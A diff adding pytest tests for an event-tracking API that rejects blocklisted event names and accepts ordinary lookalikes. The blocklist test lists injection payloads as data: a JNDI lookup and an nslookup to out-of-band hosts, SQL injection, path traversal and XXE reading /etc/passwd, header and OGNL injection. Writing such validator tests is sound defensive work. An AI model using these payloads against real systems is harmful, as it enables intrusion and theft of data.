@@ -689,3 +689,64 @@ def test_validating_an_email_never_needs_dnspython() -> None:
 
     # Then the address is validated and normalised without it (no deliverability check is made)
     assert answer.stdout.strip() == "Ada@example.com"
+
+
+# -- track: event names on the blocklist (scanners and injections) --------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "/wp-login.php",
+        "/wp-admin/setup-config.php",
+        "/.env",
+        "/.git/HEAD",
+        "/config.yml",
+        "/phpmyadmin/index",
+        "/index.php",
+        "${jndi:ldap://x.oastify.com/a}",
+        "1 UNION SELECT password FROM users",
+        "x' OR '1'='1",
+        "1;waitfor delay '0:0:5'",
+        "|nslookup abc.burpcollaborator.net",
+        "../../etc/passwd",
+        "..%2E%2e/win.ini",
+        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
+        "click\nBcc: x@y",
+        "two\r\nlines",
+        "%{(#_memberAccess)}",
+        "/cgi-bin/luci",
+    ],
+)
+def test_track_refuses_a_blocklisted_event_name_on_payload_name(name: str) -> None:
+    # Given an event whose name is a scanner's probe or an injection string
+    raw = body("track", {"name": name})
+
+    # When it is parsed
+    response = rejection(raw)
+
+    # Then it is a 400 on payload.name, of its own type
+    assert response.status == 400
+    assert error_fields(response) == ["payload.name"]
+    assert response.details is not None and response.details[0].type == "event_name_blocked"
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "screen_view",
+        "/checkout",  # a path-like name an app may use
+        "/products/shoes",
+        "/about.html",
+        "Sign up (step 2)",
+        "add_to_cart: $10",
+        "what's new",
+        "button.click",
+        "select plan",
+        "union_members_page",
+        "environment",
+        "💳 purchase",
+    ],
+)
+def test_track_accepts_ordinary_names_that_only_resemble_the_blocklist(name: str) -> None:
+    assert accepted_track(body("track", {"name": name})).payload.name == name
